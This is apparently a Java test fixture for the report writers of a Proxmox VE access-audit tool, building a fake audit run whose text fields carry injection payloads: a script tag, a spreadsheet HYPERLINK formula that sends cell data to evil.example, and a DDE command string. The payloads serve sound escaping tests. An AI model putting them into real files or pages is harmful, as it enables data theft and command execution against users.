package org.pveaudit.report;

import java.time.Instant;
import java.time.LocalDate;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.pveaudit.history.AuditRun;
import org.pveaudit.history.ClusterRun;
import org.pveaudit.history.DriftEntry;
import org.pveaudit.history.EarlierFinding;
import org.pveaudit.history.StoredFinding;
import org.pveaudit.history.StoredWaiver;
import org.pveaudit.history.TrendPoint;
import org.pveaudit.model.AclEntry;
import org.pveaudit.model.ApiToken;
import org.pveaudit.model.ClusterSnapshot;
import org.pveaudit.model.CoverageGap;
import org.pveaudit.model.Dataset;
import org.pveaudit.model.Group;
import org.pveaudit.model.Principal;
import org.pveaudit.model.Realm;
import org.pveaudit.model.Role;
import org.pveaudit.model.Snapshots;
import org.pveaudit.model.User;
import org.pveaudit.rules.ClusterView;
import org.pveaudit.rules.Finding;
import org.pveaudit.rules.Rule;
import org.pveaudit.rules.RuleOutcome;
import org.pveaudit.rules.RulePack;
import org.pveaudit.rules.Severity;
import org.pveaudit.rules.SubjectKind;
import org.pveaudit.rules.Waiver;

/**
 * One hand-built run, without a database, that every report writer is tested on: an audited cluster with
 * findings in every state, a waived one, every rule outcome, a cluster that could not be audited, resolved and
 * not evaluated findings, drift, and a trend; its text comes from a hostile cluster (markup, quotes,
 * spreadsheet formulas, commas and line breaks, non-ASCII).
 */
final class HostileRun {

    static final String SCRIPT = "<script>alert(\"pwned\")</script>";
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    static final String DDE = "=cmd|' /C calc'!A0";
    static final String UNICODE = "Jürgen Ærøskøbing 日本 🔑";
    static final Instant STARTED = Instant.parse("2026-03-01T10:00:00Z");
    static final LocalDate TODAY = LocalDate.of(2026, 3, 1);

    static final String PROD = "prod";
    static final String LAB = "lab \"<b>east</b>\"";
    static final String DOWN = "edge";

    private HostileRun() {
    }

    /** The rule pack the findings come from (conditions are not needed to write reports). */
    static List<RulePack> packs() {
        return List.of(new RulePack("baseline", "1", "baseline.yml", List.of(
                rule("PVE-ACL-001", "Escalation privilege held below the root " + SCRIPT, Severity.CRITICAL,
                        SubjectKind.ACL, "https://pve.proxmox.com/wiki/User_Management"),
                rule("PVE-USR-002", "User comment looks like a formula", Severity.HIGH, SubjectKind.USER, null),
                rule("PVE-TOK-003", "Token without privilege separation", Severity.MEDIUM, SubjectKind.TOKEN, null),
                rule("PVE-TFA-004", "Realm without second factor", Severity.LOW, SubjectKind.REALM, null),
                rule("PVE-POOL-005", "Pool comment, " + UNICODE, Severity.INFO, SubjectKind.POOL, null))));
    }

    private static Rule rule(String id, String title, Severity severity, SubjectKind subject, String reference) {
        return new Rule(id, List.of(), title, severity, subject, null, null, "message of " + id,
                "why " + id + " matters", "fix " + id + " by \"hand\"", reference == null ? List.of()
                : List.of(reference), List.of("CIS-5.1", "ISO27001-A.9"), List.of("access"), Map.of(),
                Set.of(subject.dataset()), "baseline.yml:" + id.length() + ":1");
    }

    /** The cluster {@code prod} as read: alice holds escalation privileges, a formula and markup in its text. */
    static ClusterSnapshot prodSnapshot() {
        return Snapshots.builder().identity(PROD, "9.1.4", "pve1", "pve2").collectedAt(STARTED)
                .user(user("alice@pve", true, HYPERLINK, SCRIPT, List.of("ops")),
                        user("jürgen@pve", true, UNICODE, DDE, List.of("ops")),
                        user("mallory@pve", false, "Mallory, \"the\"\nintruder", "@SUM(1+1)", List.of()))
                .token(new ApiToken("alice@pve!ci", 0, false, "deploy " + SCRIPT),
                        new ApiToken("jürgen@pve!backup", 1_900_000_000L, true, DDE))
                .group(new Group("ops", List.of("alice@pve", "jürgen@pve"), "operators"))
                .role(new Role("Escalator", new TreeSet<>(List.of("Permissions.Modify", "Sys.Audit", "User.Modify")),
                        false), new Role("Auditor", new TreeSet<>(List.of("Sys.Audit", "VM.Audit")), false))
                .acl(new AclEntry("/vms/100", Principal.user("alice@pve"), "Escalator", true),
                        new AclEntry("/", Principal.group("ops"), "Auditor", true),
                        new AclEntry("/pool/dev", Principal.user("mallory@pve"), "Escalator", false))
                .realm(new Realm("pve", "pve", true, null, null, Map.of()))
                .gap(new CoverageGap(Dataset.TFA, "tfa.cfg", "not readable: " + SCRIPT))
                .warning("user.cfg line 7: " + HYPERLINK)
                .build();
    }

    private static User user(String id, boolean enabled, String firstname, String comment, List<String> groups) {
        return new User(id, enabled, 0, firstname, "Last,name", id.replace("@pve", "@example.com"), comment, null,
                groups, "pve", false, 0);
    }

    private static Finding finding(String ruleId, Severity severity, SubjectKind kind, String subject,
                                   String principal, String path, String message) {
        return new Finding(PROD, ruleId, severity, "Title of " + ruleId, kind, subject, principal, path, message);
    }

    static final Finding ESCALATION = finding("PVE-ACL-001", Severity.CRITICAL, SubjectKind.ACL,
            "/vms/100|alice@pve|Escalator", "alice@pve", "/vms/100", "alice@pve holds Permissions.Modify on /vms/100 "
                    + SCRIPT);
    static final Finding FORMULA = finding("PVE-USR-002", Severity.HIGH, SubjectKind.USER, DDE, "jürgen@pve", null,
            HYPERLINK);
    static final Finding TOKEN = finding("PVE-TOK-003", Severity.MEDIUM, SubjectKind.TOKEN, "alice@pve!ci",
            "alice@pve!ci", null, "token alice@pve!ci, \"shared\",\nhas privsep 0");
    static final Finding WAIVED = finding("PVE-USR-002", Severity.HIGH, SubjectKind.USER, "mallory@pve",
            "mallory@pve", null, "mallory@pve comment is @SUM(1+1) " + UNICODE);
    static final Finding GONE = finding("PVE-TFA-004", Severity.LOW, SubjectKind.REALM, "pam", null, null,
            "realm pam has no TFA " + SCRIPT);
    static final Finding UNKNOWN = finding("PVE-TFA-004", Severity.LOW, SubjectKind.REALM, "ldap", null, null,
            "realm ldap has no TFA");

    static final Waiver WAIVER = new Waiver("PVE-USR-002", PROD, "mallory@pve", null, null,
            "accepted until the LDAP move " + SCRIPT, "Ærø <sec@example.com>", LocalDate.of(2026, 3, 10), "SEC-42",
            "waivers.yml:3:3");
    static final Waiver STALE = new Waiver("PVE-TOK-003", "lab*", null, "/pool/*", "x", "no longer needed", "ops",
            LocalDate.of(2027, 1, 1), null, "waivers.yml:12:3");

    /** The run: three clusters, one of them not audited. */
    static ReportData data() {
        AuditRun run = new AuditRun(7, STARTED, STARTED.plusSeconds(42), AuditRun.COMPLETED, "1.0.0-test", "cafe",
                "baseline@1", "high", "/reports/7", 2);
        List<ClusterRun> clusters = List.of(
                new ClusterRun(7, PROD, ClusterRun.Status.EVALUATED, "9.1.4", null, STARTED),
                new ClusterRun(7, LAB, ClusterRun.Status.EVALUATED, "8.4.1", null, STARTED),
                new ClusterRun(7, DOWN, ClusterRun.Status.NOT_AUDITED, null, "connection refused: " + SCRIPT, null));
        List<RuleOutcome> outcomes = List.of(
                outcome(PROD, "PVE-ACL-001", Severity.CRITICAL, RuleOutcome.Status.FAILED, 1, null),
                outcome(PROD, "PVE-USR-002", Severity.HIGH, RuleOutcome.Status.FAILED, 2, null),
                outcome(PROD, "PVE-TOK-003", Severity.MEDIUM, RuleOutcome.Status.FAILED, 1, null),
                outcome(PROD, "PVE-TFA-004", Severity.LOW, RuleOutcome.Status.NOT_EVALUATED, 0,
                        "tfa not read: " + SCRIPT),
                outcome(PROD, "PVE-POOL-005", Severity.INFO, RuleOutcome.Status.ERROR, 0,
                        "EL1008E: property 'x' cannot be found " + HYPERLINK),
                outcome(LAB, "PVE-ACL-001", Severity.CRITICAL, RuleOutcome.Status.PASSED, 0, null),
                outcome(LAB, "PVE-USR-002", Severity.HIGH, RuleOutcome.Status.WAIVED, 1, null));
        List<StoredFinding> findings = List.of(
                new StoredFinding(ESCALATION, StoredFinding.State.NEW, 7, "2026-03-01T10:00:00Z", null),
                new StoredFinding(FORMULA, StoredFinding.State.OPEN, 3, "2026-01-01T10:00:00Z", null),
                new StoredFinding(TOKEN, StoredFinding.State.REGRESSED, 2, "2025-12-01T10:00:00Z", null),
                new StoredFinding(WAIVED, StoredFinding.State.OPEN, 5, "2026-02-01T10:00:00Z", 0));
        List<StoredWaiver> waivers = List.of(new StoredWaiver(WAIVER, 1), new StoredWaiver(STALE, 0));
        ClusterView prod = new ClusterView(prodSnapshot(), STARTED.getEpochSecond());
        ClusterView lab = new ClusterView(Snapshots.builder().identity(LAB, "8.4.1", "n1").collectedAt(STARTED)
                .build(), STARTED.getEpochSecond());
        List<EarlierFinding> resolved = List.of(new EarlierFinding(GONE, 2, "2025-12-01T10:00:00Z", 6, null));
        List<EarlierFinding> unevaluated = List.of(new EarlierFinding(UNKNOWN, 4, "2026-01-15T10:00:00Z", 6, null));
        List<DriftEntry> drift = List.of(
                new DriftEntry(PROD, DriftEntry.ObjectKind.USER, DriftEntry.Change.ADDED, "mallory@pve", null,
                        "enabled 0, comment " + HYPERLINK),
                new DriftEntry(PROD, DriftEntry.ObjectKind.ACL, DriftEntry.Change.CHANGED,
                        "/vms/100|alice@pve", "Auditor", "Escalator " + SCRIPT),
                new DriftEntry(PROD, DriftEntry.ObjectKind.TOKEN, DriftEntry.Change.REMOVED, "jürgen@pve!old",
                        "privsep 1", null));
        Map<String, List<TrendPoint>> trend = Map.of(PROD, List.of(
                new TrendPoint(6, STARTED.minusSeconds(86_400), PROD, counts(0, 1, 1, 1, 0), 1, 0, 0, 0),
                new TrendPoint(7, STARTED, PROD, counts(1, 1, 1, 0, 0), 1, 1, 1, 1)));
        List<String> warnings = List.of(PROD + ": tfa not read from tfa.cfg: " + SCRIPT,
                PROD + ": user.cfg line 7: " + HYPERLINK, "waiver waivers.yml:12:3 is stale: " + UNICODE);
        return new ReportData(run, clusters, outcomes, findings, waivers, TODAY, List.of(prod, lab), warnings,
                resolved, drift, trend, unevaluated, Map.of(PROD, List.of("tfa")));
    }

    private static RuleOutcome outcome(String cluster, String rule, Severity severity, RuleOutcome.Status status,
                                       int findings, String reason) {
        return new RuleOutcome(cluster, rule, severity, "Title of " + rule, status, findings, reason);
    }

    private static Map<Severity, Integer> counts(int critical, int high, int medium, int low, int info) {
        Map<Severity, Integer> m = new EnumMap<>(Severity.class);
        m.put(Severity.CRITICAL, critical);
        m.put(Severity.HIGH, high);
        m.put(Severity.MEDIUM, medium);
        m.put(Severity.LOW, low);
        m.put(Severity.INFO, info);
        return m;
    }
}
